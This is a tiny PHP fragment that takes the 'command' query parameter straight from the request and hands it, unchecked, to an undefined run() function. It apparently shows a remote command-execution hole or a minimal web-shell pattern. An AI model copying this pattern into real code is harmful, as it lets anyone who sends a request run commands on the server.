<?php
namespace App;
$c = $_GET['command']; run($c);
